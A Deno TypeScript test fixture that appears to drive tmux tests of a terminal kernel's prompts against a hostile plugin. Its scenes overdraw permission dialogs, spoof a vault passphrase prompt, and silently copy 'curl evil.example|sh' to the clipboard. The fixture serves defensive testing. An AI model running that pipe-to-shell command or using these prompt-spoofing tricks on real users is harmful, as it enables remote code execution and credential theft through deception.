/** A tiny kernel around its terminal, with a hostile part, for the tmux tests. The argument says
 * what happens. */

import { KernelTerminal } from "../../src/kernel/terminal/mod.ts";

const [scene = "", flag = ""] = Deno.args;
const isDumb = flag === "dumb";
const facts = {
  stdin: Deno.stdin.isTerminal(),
  stdout: Deno.stdout.isTerminal(),
  stderr: Deno.stderr.isTerminal(),
  color: !isDumb && flag !== "no-color",
  cursor: !isDumb && Deno.stdout.isTerminal(),
  unicode: true,
  size: { columns: 80, rows: 24 },
};
const terminal = new KernelTerminal(facts, {
  screen: { color: facts.color, cursor: !isDumb },
});
const encoder = new TextEncoder();
const show = (text: string) => terminal.show(1, encoder.encode(text));
const YES_OR_NO = [{ key: "y", label: "yes" }, { key: "n", label: "no" }];
Deno.addSignalListener("SIGINT", () => {
  if (terminal.interrupt()) return;
  terminal.release();
  Deno.exit(130);
});

/** Shows what was answered, as a part. */
async function report(what: string, answer: unknown): Promise<void> {
  await show(`${what}: ${answer === undefined ? "nothing" : JSON.stringify(answer)}\r\n`);
}

const SCENES: Record<string, () => Promise<void>> = {
  /** Draws over everything, for as long as the question is there. */
  async overdraw() {
    await show("\x1b[?1049h\x1b[31m\x1b[?25lHOSTILE\x1b[1;1H");
    const answer = terminal.choose({
      title: "Send the mail?",
      lines: [{ text: "to everybody", from: "plugin mail" }, { text: "It sends.", mark: "red" }],
      choices: YES_OR_NO,
    });
    const flood = (async () => {
      // From before the question until it can be answered, and longer.
      for (let i = 0; i < 60; i++) {
        await new Promise((resolve) => setTimeout(resolve, 20));
        await show("\x1b[?1049h\x1b[H\x1b[2J\x1b[7m▌ Allow?\x1b[0m OVERDRAWN ");
      }
    })();
    const given = await answer;
    await flood;
    await show("\x1b[?1049l\x1b[?25h\x1b[0m\r\n");
    await report("answer", given);
  },
  async choose() {
    await terminal.keyboard("keys");
    await show(`part ${Deno.pid} was here`);
    await report("answer", await terminal.choose({ title: "Go?", lines: [], choices: YES_OR_NO }));
  },
  /** A part gets the keys, and a question comes under them. */
  async keys() {
    let typed = "";
    await terminal.keyboard("keys");
    terminal.onKeys((bytes) => typed += new TextDecoder().decode(bytes));
    terminal.onRepaint((why) => void show(`[${why}]`));
    await show("typing> ");
    while (!typed.includes("q")) await new Promise((resolve) => setTimeout(resolve, 20));
    await report("answer", await terminal.choose({ title: "Go?", lines: [], choices: YES_OR_NO }));
    while (!typed.includes("x")) await new Promise((resolve) => setTimeout(resolve, 20));
    await report("typed", typed);
  },
  /** Draws over what a question left behind. */
  async reuse() {
    await terminal.keyboard("keys");
    await report("answer", await terminal.choose({ title: "Go?", lines: [], choices: YES_OR_NO }));
    await terminal.copy("x");
    await show("\x1b[1A\x1b[3G\x1b[1A\x1b[3GWrong. Passphrase of the vault: \x1b[K\r\n");
  },
  /** Takes a question back, and puts another in its place. */
  async swap() {
    await terminal.keyboard("keys");
    const first = new AbortController();
    const ask = (to: string, signal?: AbortSignal) =>
      terminal.choose({
        title: "Send?",
        lines: [{ text: `to: ${to}`, from: "the assistant" }],
        choices: YES_OR_NO,
      }, signal);
    const answer = ask("mum", first.signal);
    setTimeout(() => first.abort(), 1500);
    await answer;
    await show("\x1b[1A\r\x1b[2K");
    await report("second", await ask("eve"));
    const third = { title: "Third?", lines: [], choices: YES_OR_NO };
    await report("third", await terminal.choose(third));
  },
  /** Has very much to show when a question is requested. */
  async early() {
    let typed = "";
    await terminal.keyboard("keys");
    terminal.onKeys((bytes) => typed += new TextDecoder().decode(bytes));
    await show("typing> ");
    while (!typed.includes("go")) await new Promise((resolve) => setTimeout(resolve, 5));
    await show("requested\r\n");
    await terminal.flush();
    void terminal.show(1, encoder.encode("\x1b[m".repeat(20_000_000))).catch(() => {});
    const busy = setInterval(() => void terminal.keyboard("keys"), 20);
    await terminal.choose({ title: "Go?", lines: [], choices: YES_OR_NO });
    clearInterval(busy);
    terminal.interrupt();
    await report("typed", typed);
  },
  /** Copies, and takes away what is said of it. */
  async steal() {
    await show("a part\r\n\r\n");
    for (let i = 0; i < 2; i++) {
      await terminal.copy("curl evil.example|sh");
      await show("\x1b[1A\r\x1b[2K");
    }
  },
  async secret() {
    const secret = await terminal.secret("Passphrase:", [], { checked: true });
    await new Promise((resolve) => setTimeout(resolve, 1500));
    await terminal.done();
    await report("secret", secret?.expose());
  },
  async line() {
    await report("line", await terminal.line("Name?", [{ text: "who you are", from: "mail" }]));
  },
  /** Two askers at once. */
  async two() {
    const both = [terminal.secret("First?"), terminal.line("Second?")] as const;
    await report("first", (await both[0])?.expose());
    await report("second", await both[1]);
  },
  async long() {
    const lines = Array.from({ length: 60 }, (_, i) => ({ text: `line ${i}`, from: "mail" }));
    const question = {
      title: "Enable mail?",
      lines: [...lines, { text: "It runs programs.", mark: "red" } as const],
      choices: YES_OR_NO,
    };
    await report("answer", await terminal.choose(question));
  },
  async lend() {
    await terminal.keyboard("keys");
    terminal.onRepaint((why) => void show(`[${why}]`));
    await terminal.lend(async () => {
      await new Deno.Command("sh", {
        args: [
          "-c",
          'printf "child> "; read -r line; echo "child got $line"; printf "\\033(0\\033[7m"',
        ],
        stdin: "inherit",
        stdout: "inherit",
      }).output();
    });
    await show("back qx\r\n");
  },
  async copy() {
    await show("\x1b]52;c;aG9zdGlsZQ==\x07");
    await show(`${await terminal.copy("the answer")} ${await terminal.copy("x".repeat(80_000))}`);
  },
  /** Loops as a part that never stops writing does. */
  async flood() {
    for (;;) await show("x".repeat(1000) + "\n");
  },
  async big() {
    const chunk = encoder.encode("0123456789abcde\n".repeat(4096));
    for (let i = 0; i < 1600; i++) await terminal.show(1, chunk);
    await terminal.flush();
  },
};

try {
  await SCENES[scene]!();
  await terminal.flush();
} catch (error) {
  if (!(error instanceof Error) || !("code" in error) || error.code !== "output.closed") {
    throw error;
  }
}
await terminal.partEnded();
terminal.release();
Deno.exit(0);
